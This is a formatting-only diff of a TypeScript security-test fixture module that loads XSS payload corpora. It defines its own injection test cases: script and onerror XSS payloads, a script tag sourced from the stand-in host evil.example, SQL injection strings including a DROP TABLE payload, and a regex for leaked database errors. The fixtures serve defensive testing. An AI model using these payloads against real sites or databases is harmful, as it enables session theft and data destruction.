@@ -46,7 +46,10 @@ export function xssCorpora(): { file: string; payloads: string[] }[] {
     if (file.endsWith(".txt") && file !== "SOURCE.txt") out.push({ file, payloads: lines(fs.readFileSync(full, "utf8")) });
     else if (file.endsWith(".txt.gz")) out.push({ file, payloads: lines(gunzipSync(fs.readFileSync(full)).toString("utf8")) });
     else if (file.endsWith(".jsonl")) {
-      out.push({ file, payloads: lines(fs.readFileSync(full, "utf8")).map((line) => String((JSON.parse(line) as { vector: unknown }).vector ?? "")) });
+      out.push({
+        file,
+        payloads: lines(fs.readFileSync(full, "utf8")).map((line) => String((JSON.parse(line) as { vector: unknown }).vector ?? "")),
+      });
     }
   }
   return out;
@@ -56,7 +59,7 @@ export function xssCorpora(): { file: string; payloads: string[] }[] {
 export const OWN_XSS = [
   "<script>alert(1)</script>",
   '<img src=x onerror="alert(1)">',
-  '<IMG SRC="javascript:alert(\'XSS\');">',
+  "<IMG SRC=\"javascript:alert('XSS');\">",
   "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
   '<BODY ONLOAD=alert("XSS")>',
   '<a href="jav&#x09;ascript:alert(1)">x</a>',
@@ -116,7 +119,7 @@ export const OWN_DANGEROUS_URLS = [
 /** Our own cases: quoting, comments, wildcards, encodings, control characters, huge and odd Unicode. */
 export const OWN_BAD_INPUTS = [
   "'",
-  "\"",
+  '"',
   "' OR '1'='1",
   "1; DROP TABLE products; --",
   "%",
@@ -139,4 +142,5 @@ export const OWN_BAD_INPUTS = [
 ];
 
 /** Text that would only appear if a database or runtime error leaked into a response. */
-export const LEAK_PATTERN = /syntax error|SQLSTATE|relation "|column "|invalid input syntax|PGlite|drizzle|DatabaseError|node_modules|\n\s+at [\w.<>]+ \(/i;
+export const LEAK_PATTERN =
+  /syntax error|SQLSTATE|relation "|column "|invalid input syntax|PGlite|drizzle|DatabaseError|node_modules|\n\s+at [\w.<>]+ \(/i;
